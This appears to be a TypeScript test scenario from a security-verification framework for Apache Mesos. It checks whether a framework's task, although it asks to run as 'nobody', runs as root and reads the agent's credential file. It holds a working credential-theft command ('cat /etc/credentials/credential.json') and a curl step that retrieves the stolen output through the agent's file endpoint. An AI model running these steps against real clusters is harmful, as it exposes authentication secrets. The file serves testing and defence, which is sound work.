import { taskAs } from "../_shared/acls.js";
import { observedAttack, sandboxOf } from "../_shared/attacks.js";

const OBSERVED = observedAttack("10");

/**
 * A task of the framework reads the agent's credential. It asks to run as `nobody` (`command.user`), but the agent
 * runs every task as its own user, root, unless it switches users (`MESOS_SWITCH_USER`, src/slave/slave.cpp:10331):
 * with the POSIX launcher the task shares the agent's filesystem, and the 0600 credential file is root's. With the
 * agent switching users the same task runs as nobody and is refused the file.
 */
const STEAL = taskAs("nobody", { name: "steal", command: "id; cat /etc/credentials/credential.json" });

const read = (id: string, file: "stdout" | "stderr") => ({
  do: "attack" as const,
  id,
  http: true,
  run: `${sandboxOf("steal")}; curl -si "http://\${target.agent}/files/read?path=$s/${file}&offset=0"`,
});

export const stealCredential = {
  id: "steal-credential",
  title: "a framework's task reads the agent's credential",
  actions: [
    {
      do: "execute" as const,
      id: "steal",
      args: [`--task=${STEAL}`, "--role=analytics", "--principal=scheduler-principal", "--secret=${secret:scheduler-principal}"],
    },
    read("stdout", "stdout"),
    read("stderr", "stderr"),
  ],
  works: [
    {
      id: "ran-as-root",
      says: "the task asked for nobody, and ran as root: the agent does not switch users",
      source: { attacker: "stdout", part: "body" as const },
      pattern: '"data":"uid=0\\(root\\) gid=0\\(root\\) groups=0\\(root\\)',
      cite: { at: "src/slave/slave.cpp:10331", ref: OBSERVED },
    },
    {
      id: "credential-read",
      says: "it read the agent's credential: principal and secret",
      source: { attacker: "stdout", part: "body" as const },
      pattern: '\\{\\\\"principal\\\\":\\\\"agent-principal\\\\",\\\\"secret\\\\":\\\\"[^\\\\]+\\\\"\\}',
      cite: { at: "src/credentials/credentials.hpp:73", ref: OBSERVED },
    },
  ],
  blocked: [
    {
      id: "ran-as-nobody",
      says: "the task runs as nobody",
      source: { attacker: "stdout", part: "body" as const },
      pattern: '"data":"uid=65534\\(nobody\\)',
      cite: { at: "src/slave/paths.cpp:831-835", ref: OBSERVED },
    },
    {
      id: "permission-denied",
      says: "reading the credential is refused: Permission denied",
      source: { attacker: "stderr", part: "body" as const },
      pattern: "cat: /etc/credentials/credential\\.json: Permission denied",
      cite: { at: "src/slave/slave.cpp:10331", ref: OBSERVED },
    },
  ],
};
